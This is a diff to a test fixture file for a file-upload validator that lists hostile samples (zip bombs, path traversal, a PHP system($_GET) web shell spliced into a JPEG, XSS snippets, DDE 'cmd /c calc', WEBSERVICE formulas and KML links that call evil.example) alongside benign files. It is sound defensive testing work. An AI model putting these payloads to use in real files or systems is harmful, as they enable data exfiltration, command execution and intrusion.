@@ -9,7 +9,10 @@ from base64 import a85encode
 from collections.abc import Callable
 from zlib import compress
 
+import pillow_heif
 from PIL import Image
+
+pillow_heif.register_heif_opener()
 
 
 def pdf(*objects: bytes) -> bytes:
@@ -29,6 +32,13 @@ PDF = pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>")
 def picture(kind: str = "PNG", size: tuple[int, int] = (4, 4)) -> bytes:
     out = io.BytesIO()
     Image.new("RGB", size, "green").save(out, kind)
+    return out.getvalue()
+
+
+def bilevel(width: int, height: int) -> bytes:
+    """A plan as a scanner writes it: black and white, packed."""
+    out = io.BytesIO()
+    Image.new("1", (width, height), 1).save(out, "TIFF", compression="group4")
     return out.getvalue()
 
 
@@ -153,6 +163,43 @@ def late(xml: str, encoding: str = "utf-8") -> bytes:
 FIELDS = b"<w:document><w:fldChar/><w:instrText>DD</w:instrText><w:instrText>E&#65;UTO cmd</w:instrText></w:document>"
 RELS = "word/_rels/settings.xml.rels"
 
+
+def cells(*formulas: str) -> bytes:
+    """A workbook with these formulas, as XML has them."""
+    rows = "".join(f"<row><c><f>{one}</f></c></row>" for one in formulas)
+    return workbook(**{"xl/worksheets/sheet1.xml": f"<worksheet><sheetData>{rows}</sheetData></worksheet>".encode()})
+
+
+def opendocument(formula: str) -> bytes:
+    cell = f'<t:table-cell xmlns:t="urn:t" t:formula="{formula}"/>'
+    return zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": cell.encode()})
+
+
+def kml(inside: str) -> bytes:
+    return (
+        f'<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>{inside}</Document></kml>'.encode()
+    )
+
+
+NAMES = b"<workbook><definedNames><definedName>_xlfn.WEBSERVICE(&quot;http://x&quot;)</definedName></definedNames></workbook>"
+EXE = b"MZ\x90\0" + b"\0" * 200 + b"This program cannot be run in DOS mode"
+NETWORK = kml("<NetworkLink><Link><href>http://evil.example/x.kml</href></Link></NetworkLink>")
+PAGE = b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'
+ANSI = "Công ty Société Générale – 5 ha".encode("cp1252", "replace")
+SHAPE = b"\0\0\x27\x0a" + b"\0" * 96
+SHAPES = {
+    "lot.shp": SHAPE,
+    "lot.shx": SHAPE,
+    "lot.dbf": b"\x03" + b"\0" * 60,
+    "lot.prj": b"PROJCS[]",
+    "lot.cpg": b"UTF-8",
+}
+SHAPES |= {"lot.sbn": SHAPE, "lot.sbx": SHAPE, "lot.qix": b"SQT\x01", "lot.shp.xml": b"<metadata/>"}
+SHAPES |= {"lot.qmd": b"<!DOCTYPE qgis PUBLIC 'http://mrcc.com/qgis.dtd' 'SYSTEM'>\n<qgis/>"}
+MAC = {"Du an/plan.pdf": PDF, "__MACOSX/Du an/._plan.pdf": b"\0\5\x16\7\0\2\0\0Mac OS X" + b"\0" * 99}
+MAC |= {"Du an/.DS_Store": b"\0\0\0\x01Bud1" + b"\0" * 99}
+PIN = "<Icon><href>http://maps.google.com/mapfiles/kml/pushpin/ylw-pushpin.png</href></Icon>"
+
 # name, content, why it is refused
 HOSTILE: list[tuple[str, bytes, str]] = [
     ("empty.pdf", b"", "empty"),
@@ -166,12 +213,12 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     ("polyglot.pdf", PDF + zipped({"x.js": b"alert(1)"}), "disguised"),
     ("gif.gif", b"GIF89a/*<script>alert(1)</script>*/=0", "disguised"),
     ("bomb.png", huge_picture(), "image_bomb"),
-    ("broken.png", picture()[:40], "image_bomb"),
+    ("broken.png", picture()[:40], "image_broken"),
     ("macro.xlsx", workbook(**{"xl/vbaProject.bin": b"x"}), "macros"),
     ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old_office"),
-    ("bomb.zip", zipped({"a.txt": b"0" * 60_000_000}), "zip_unsafe"),
-    ("programs.zip", zipped({"setup.exe": b"MZ"}), "zip_unsafe"),
-    ("climb.zip", zipped({"../../etc/passwd.txt": b"x"}), "zip_unsafe"),
+    ("bomb.zip", zipped({"a.txt": b"0" * 60_000_000}), "zip_bomb"),
+    ("programs.zip", zipped({"setup.exe": b"MZ"}), "zip_member"),
+    ("climb.zip", zipped({"../../etc/passwd.txt": b"x"}), "zip_path"),
     # two files in one
     ("photo.jpg", picture("JPEG") + b"<html><body onload=alert(1)>", "disguised"),
     ("photo.jpeg", picture("JPEG")[:20] + b"<?php system($_GET[0]); ?>" + picture("JPEG")[20:], "disguised"),
@@ -185,19 +232,19 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     ("plan.js.png", picture(), "disguised"),
     ("plan\u202efdp.exe", PDF, "disguised"),
     # archives
-    ("lying.zip", lying(3_000_000, 10), "zip_unsafe"),
-    ("declared.zip", declared("a.txt", 10 * 2**30, {}), "zip_unsafe"),
+    ("lying.zip", lying(3_000_000, 10), "zip_bomb"),
+    ("declared.zip", declared("a.txt", 10 * 2**30, {}), "zip_bomb"),
     (
         "sheet.xlsx",
         declared("xl/worksheets/sheet1.xml", 10 * 2**30, {"[Content_Types].xml": b"<Types/>"}),
-        "zip_unsafe",
+        "zip_bomb",
     ),
-    ("overlapping.zip", overlapping(100), "zip_unsafe"),
-    ("nested.zip", nested(3), "zip_unsafe"),
-    ("map.zip", zipped({"a.kmz": nested(2)}), "zip_unsafe"),
-    ("link.zip", linked(), "zip_unsafe"),
+    ("overlapping.zip", overlapping(100), "zip_bomb"),
+    ("nested.zip", nested(3), "zip_in_zip"),
+    ("map.zip", zipped({"a.kmz": nested(2)}), "zip_in_zip"),
+    ("link.zip", linked(), "zip_path"),
     ("locked.zip", locked(), "locked"),
-    ("hidden.zip", zipped({"needs.xlsx": workbook(**{"xl/vbaProject.bin": b"x"})}), "zip_unsafe"),
+    ("hidden.zip", zipped({"needs.xlsx": workbook(**{"xl/vbaProject.bin": b"x"})}), "zip_member"),
     # what runs in an office
     ("macro.xlsm", workbook(**{"xl/vbaProject.bin": b"x"}), "macros"),
     ("macro.docm", letter(**{"word/vbaProject.bin": b"x"}), "macros"),
@@ -248,7 +295,51 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     ("program.docx", letter(**{"word/media/a.png": b"MZ" + b"x" * 99}), "macros"),
     ("late.xlsx", workbook(**{"xl/worksheets/sheet1.xml": late("<worksheet>&x;</worksheet>")}), "xml_unsafe"),
     ("late16.xlsx", workbook(**{"xl/workbook.xml": late("<workbook>&x;</workbook>", "utf-16")}), "xml_unsafe"),
-    ("many.zip", zipped({f"{n}.txt": b"0" * 900_000 for n in range(60)}), "zip_unsafe"),
+    # formulas that fetch or run
+    ("webservice.xlsx", cells('_xlfn.WEBSERVICE("http://evil.example/?"&amp;A1)'), "formula_active"),
+    ("image.xlsx", cells('_xlfn.IMAGE("http://evil.example/a.png")'), "formula_active"),
+    ("filter.xlsx", cells("FILTER&#88;ML(A1,A2)"), "formula_active"),
+    ("rtd.xlsx", cells('RTD("x",,"y")'), "formula_active"),
+    ("cmd.xlsx", cells("cmd|'/c calc'!A0"), "formula_active"),
+    ("quoted.xlsx", cells("""'it"s'!A1&amp;WEBSERVICE(A1)&amp;'b"c'!A1"""), "formula_active"),
+    ("split.xlsx", cells("WEB<!-- -->SERVICE(A1)"), "formula_active"),
+    ("named.xlsx", workbook(**{"xl/workbook.xml": NAMES}), "formula_active"),
+    ("service.ods", opendocument("of:=WEBSERVICE(&quot;http://evil.example&quot;)"), "formula_active"),
+    ("prefixed.ods", opendocument("of:=COM.MICROSOFT.WEBSERVICE([.A1])"), "formula_active"),
+    ("dde.ods", opendocument("of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;A0&quot;)"), "formula_active"),
+    ("far.ods", opendocument("of:=['http://evil.example/a.ods'#$S.A1]"), "formula_active"),
+    # maps that fetch or run, and what is no map
+    ("network.kml", NETWORK, "kml_active"),
+    ("network.kmz", zipped({"doc.kml": NETWORK}), "zip_member"),
+    ("balloon.kml", kml("<description><![CDATA[<script>x()</script>]]></description>"), "kml_active"),
+    ("frame.kml", kml('<description>&lt;iframe src="http://x"&gt;</description>'), "kml_active"),
+    ("click.kml", kml("<description><![CDATA[<img src=x onerror=alert(1)>]]></description>"), "kml_active"),
+    (
+        "share.kml",
+        kml(r"<GroundOverlay><Icon><href>\\evil.example\s\x.png</href></Icon></GroundOverlay>"),
+        "kml_active",
+    ),
+    ("remote.kml", kml("<Icon><href>https://evil.example/x.png</href></Icon>"), "kml_active"),
+    ("svg.kml", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><kml/></svg>", "unknown_kind"),
+    ("html.kml", b"<html><script>alert(1)</script><!-- <kml > --></html>", "unknown_kind"),
+    # behind the end of a picture
+    ("behind.png", picture() + EXE, "disguised"),
+    ("behind.jpg", picture("JPEG") + b"MZ\x90\0" + b"x" * 99, "disguised"),
+    ("behind.gif", picture("GIF") + b"MZ\x90\0" + b"x" * 99, "disguised"),
+    ("behind.webp", picture("WEBP") + b"MZ\x90\0" + b"x" * 99, "disguised"),
+    ("inside.tif", picture("TIFF") + EXE, "disguised"),
+    # in an archive under another name
+    ("program.zip", zipped({"plan.txt": EXE}), "zip_member"),
+    ("table.zip", zipped({"lot.dbf": EXE}), "zip_member"),
+    ("page.zip", zipped({"map.xml": PAGE}), "zip_member"),
+    ("page2.zip", zipped({"map.geojson": PAGE}), "zip_member"),
+    ("beside.zip", zipped({"__MACOSX/._plan.pdf": EXE}), "zip_member"),
+    ("book.zip", zipped({"a.xlsx": cells("RTD(A1)")}), "zip_member"),
+    ("rtf.txt", rb"{\rtf1{\object\objocx\objupdate{\*\objdata d0cf11e0}}}", "rtf"),
+    ("rtf.csv", rb"a,b\n{\object\objdata 01050000}", "rtf"),
+    ("server.docx", letter(**{RELS: link("attachedTemplate", target=r"file:////evil.example/s/t.dotx")}), "macros"),
+    ("share.docx", letter(**{RELS: link("attachedTemplate", target=r"\\evil.example\s\t.dotx")}), "macros"),
+    ("many.zip", zipped({f"{n}.txt": b"0" * 900_000 for n in range(60)}), "zip_bomb"),
 ]
 SOUND: list[tuple[str, bytes, str]] = [
     ("plan.pdf", PDF, "pdf"),
@@ -271,4 +362,28 @@ SOUND: list[tuple[str, bytes, str]] = [
     ),
     ("chart.docx", letter(**{"word/embeddings/Sheet1.xlsx": workbook()}), "docx"),
     ("place.kml", b'<?xml version="1.0"?><kml><Placemark/></kml>', "kml"),
+    ("finder.zip", zipped(MAC), "zip"),
+    ("lots.zip", zipped(SHAPES), "zip"),
+    (
+        "letterhead.docx",
+        letter(**{RELS: link("attachedTemplate", target=r"file:///C:\Users\lan\Letterhead.dotx")}),
+        "docx",
+    ),
+    (
+        "sums.xlsx",
+        cells("SUM(A1:A9)", """'Lô 5'!A1&amp;" | "&amp;'Lô 6'!A1""", 'HYPERLINK("http://x.example","x")'),
+        "xlsx",
+    ),
+    ("sums.ods", opendocument("of:=SUM([.A1:.A3])"), "ods"),
+    ("A0.tif", bilevel(9_933, 14_043), "tif"),
+    ("photo.webp", picture("WEBP"), "webp"),
+    ("IMG_0001.HEIC", picture("HEIF", (64, 64)), "heic"),
+    ("moving.jpg", picture("JPEG") + b"\0\0\0\x10ftypmp42\0\0\0\0\0\0\0\x0cmdat\x01\x02\x03\x04", "jpg"),
+    ("deep.jpg", picture("JPEG") + picture("JPEG"), "jpg"),
+    ("unicode.csv", "tên,diện tích\nA,5\n".encode("utf-16"), "txt"),
+    ("vietnamese.csv", "tên,diện tích\nCông ty,5\n".encode("cp1258", "replace"), "txt"),
+    ("ansi.txt", ANSI, "txt"),
+    ("newline.pdf", b"\r\n" + PDF, "pdf"),
+    ("pins.kml", kml(PIN + '<description><![CDATA[<a href="https://x.example">x</a>]]></description>'), "kml"),
+    ("plots.geojson", b'{"type":"FeatureCollection","features":[]}', "txt"),
 ]
